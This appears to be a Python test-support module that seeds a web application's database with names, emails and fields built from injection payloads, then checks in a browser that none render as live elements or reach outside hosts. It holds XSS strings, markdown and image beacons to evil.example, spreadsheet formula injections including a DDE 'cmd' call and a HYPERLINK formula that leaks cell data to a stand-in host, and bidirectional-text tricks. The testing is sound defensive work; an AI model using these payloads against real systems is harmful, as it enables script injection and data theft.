"""A directory whose every name is an attack, and a tab that notices when one takes effect."""

import contextlib
import csv
import io
from collections.abc import Iterable, Iterator
from pathlib import Path

from playwright.sync_api import Page, expect
from sqlalchemy import Connection, text

from lib.domain import clock
from lib.domain.ids import new_id
from lib.domain.roles import Grant, Role
from lib.operations.database import open_database
from lib.operations.imports.import_directory import import_into
from lib.operations.imports.parse import parse
from lib.store import grant_queries
from lib.store.engine import writing
from tests.support.browser import Tab

MARKDOWN = (
    "![i](https://evil.example/i.png) [link](https://evil.example) <https://evil.example> "
    ":red[x] :material/delete: $x$ `c` **b** # h"
)
HTML = (
    "<script>alert(1)</script><img src=https://evil.example/p onerror=alert(2)>"
    '<a href="https://evil.example">a</a>'
)
ADDRESSES = "www.evil.example https://evil.example/x me@evil.example"
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
SERVICE = "erecording"
PEOPLE = [
    ("![u](https://evil.example/u)", MARKDOWN, "=1+1@evil.example"),
    ("https://evil.example/u1", HTML, "<script>alert(1)</script>@evil.example"),
    ("www.evil.example", ADDRESSES, "![e](https://evil.example/e.png)@evil.example"),
    ("=cmd|'/C-calc'!A0", FORMULA, "@evil.example".rjust(20, "+")),
    ("@SUM(1)", "+1;=2", "-a@evil.example"),
    ("-2+3", "-2+3", "a@b;=cmd"),
    ("marks", "\u200d=1+1 \u05d0\u05d1", "%1@evil.example"),
    ("long", "=" + "x" * 199, "long@evil.example"),
    ("\uff1dwide", "\uff1d1+1", "\uff0bw@evil.example"),
    ("inactive<img/src=x>", f"{HTML} {MARKDOWN}"[:200], "i@evil.example"),
]
ORGANIZATION = f"{HTML[:60]} {MARKDOWN} {ADDRESSES}"[:200]
SERVICE_NAME = "=1+1 <script>alert(1)</script><img src=x onerror=alert(2)>"
FACTS = (
    *("contact_person", "primary_recorder", "address", "telephone", "fax", "web_page"),
    *("hours", "document_types"),
)
LICENCE = (
    "license_number",
    "plan",
    "notify_recorded",
    "notify_rejected",
    "notify_fees",
    "notify_to",
)
FOREIGN_NODES = """() => [
    ...document.querySelectorAll('img[src^="http"]:not([src^="' + location.origin + '"])'),
    // Our own links to a page may carry a username that looks like an address.
    ...[...document.querySelectorAll('a[href*="evil"]')].filter(a => a.origin !== location.origin),
    ...document.querySelectorAll('[href^="javascript"], iframe, object, embed'),
    ...document.querySelectorAll('[onerror], [onload]'),
    ...[...document.scripts].filter(script => /evil|alert/.test(script.text + script.src)),
].map(element => element.outerHTML).concat(window.refusedByPolicy)"""


def write_directory(path: Path, roles: Iterable[tuple[str, Grant]], more: int = 0) -> None:
    """Write that directory into a new SQLite file, with these roles, and so many more people."""
    engine = open_database(f"sqlite:///{path}")
    with writing(engine) as connection:
        _import(connection, _files())
        # The importer refuses what turns the reading direction round: it may still be stored.
        for table in ("member", "user_account"):
            connection.execute(
                text(f"UPDATE {table} SET name = name || :mark WHERE username = 'long'"),
                {"mark": "\u202e\u2066evil"},
            )
        for person, role in roles:
            _grant(connection, person, role)
        if more:
            _add_people(connection, more)
    engine.dispose()


def _import(connection: Connection, files: dict[str, list[dict[str, str]]]) -> None:
    parsed = {name: parse(name, _sheet(rows)) for name, rows in files.items()}
    assert import_into(connection, parsed, clock.now()).all_taken


def _grant(connection: Connection, person: str, role: Grant) -> None:
    now = clock.now()
    grant_queries.add_grant(connection, new_id(now), person, role, now, MARKDOWN)


def _add_people(connection: Connection, many: int) -> None:
    """Add people with a role in an organization each; every name of both is an attack."""
    organizations, people = [], []
    for number, name in enumerate(malicious_names(many)):
        place = {"type": "submitter", "status": "active", "state": "UT"}
        organizations.append({"organization_id": f"H{number:05}", "name": name, **place})
        email = f"{number}@example.com"
        who = {"username": username(number, name), "name": name, "email": email}
        people.append({**who, "organization_id": "", "status": "active"})
    _import(connection, {"organizations": organizations, "users": people})
    for number, person in enumerate(people):
        _grant(connection, person["username"], Grant(Role.ANALYST, f"H{number:05}"))


def username(number: int, name: str) -> str:
    """Return a username that has as much of the name as the importer takes."""
    return f"{number}{''.join(name.split())[:80]}"


def malicious_names(many: int) -> list[str]:
    """Return so many different names: each kind of attack inside each kind of text."""
    inside = (
        *("{}", "a {} b", "**{}**", "[{}](x)", "`{}`", "# {}", "> {}", "- {}", "1. {}", "|{}|"),
        *(
            "<b>{}</b>",
            '"{}"',
            "'{}'",
            "&{};",
            "\\{}",
            "{}\\",
            "${}$",
            ":red[{}]",
            "~~{}~~",
            "({})",
        ),
    )
    attacks = (
        *(
            "![i](https://evil.example/i.png)",
            "[l](https://evil.example)",
            "<https://evil.example>",
        ),
        *("<script>alert(1)</script>", "<img src=https://evil.example/p onerror=alert(1)>"),
        *('<a href="https://evil.example">a</a>', "<iframe src=https://evil.example></iframe>"),
        *("javascript:alert(1)", "www.evil.example", "https://evil.example/x", "me@evil.example"),
        *("=1+1", "@SUM(A1)", "+cmd|'/C calc'!A0", ":material/delete:", ":red-badge[x]", "$x^2$"),
        *(
            "<style>@import url(https://evil.example)</style>",
            "{{{{7*7}}}}",
            "%00%0a",
            "\u05d0\u05d1=",
        ),
        *(
            "&lt;img src=x onerror=alert(1)&gt;",
            "<svg onload=alert(1)>",
            "![x][y]",
            "[y]: https://evil.example",
        ),
    )
    every = [text.format(attack) for attack in attacks for text in inside]
    assert many <= len(set(every))
    return list(dict.fromkeys(every))[:many]


def _files() -> dict[str, list[dict[str, str]]]:
    name = {"name": ORGANIZATION, "type": "recipient", "status": "active", "state": MARKDOWN[:60]}
    users = [
        {"username": u, "name": n, "email": e, "organization_id": "EVIL01", "status": "active"}
        for u, n, e in PEOPLE
    ]
    users[-1]["status"] = "inactive"
    staff = {"username": "root", "name": MARKDOWN[:90], "email": "", "status": "active"}
    return {
        "services": [{"service": SERVICE, "name": SERVICE_NAME}],
        "organizations": [
            {"organization_id": "EVIL01", **name, **dict.fromkeys(FACTS, f"{MARKDOWN} {HTML}")}
            | {"web_page": "javascript:alert(1)"}
        ],
        "subscriptions": [
            {"organization_id": "EVIL01", "service": SERVICE, "status": "active"}
            | dict.fromkeys(LICENCE, f"{ADDRESSES} {MARKDOWN}")
        ],
        "users": [*users, staff | {"organization_id": ""}],
    }


def _sheet(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


@contextlib.contextmanager
def nothing_foreign(tab: Tab) -> Iterator[Tab]:
    """Expect that to the end nothing but our own server is asked, and that no box pops up."""
    foreign: list[str] = []
    boxes: list[str] = []

    def note(url: str) -> None:
        if not url.startswith((tab.address, "data:", "blob:")):
            foreign.append(url)

    tab.listen("request", lambda request: note(request.url))
    tab.listen("dialog", lambda box: (boxes.append(box.message), box.dismiss()))
    yield tab
    expect_text_only(tab.page)
    assert foreign == []
    assert boxes == []


def expect_text_only(page: Page) -> None:
    """Expect that no name has become an element, and that the policy had nothing to refuse."""
    found = page.evaluate(FOREIGN_NODES)
    assert found == [], found
    expect(page.get_by_test_id("stException")).to_have_count(0)
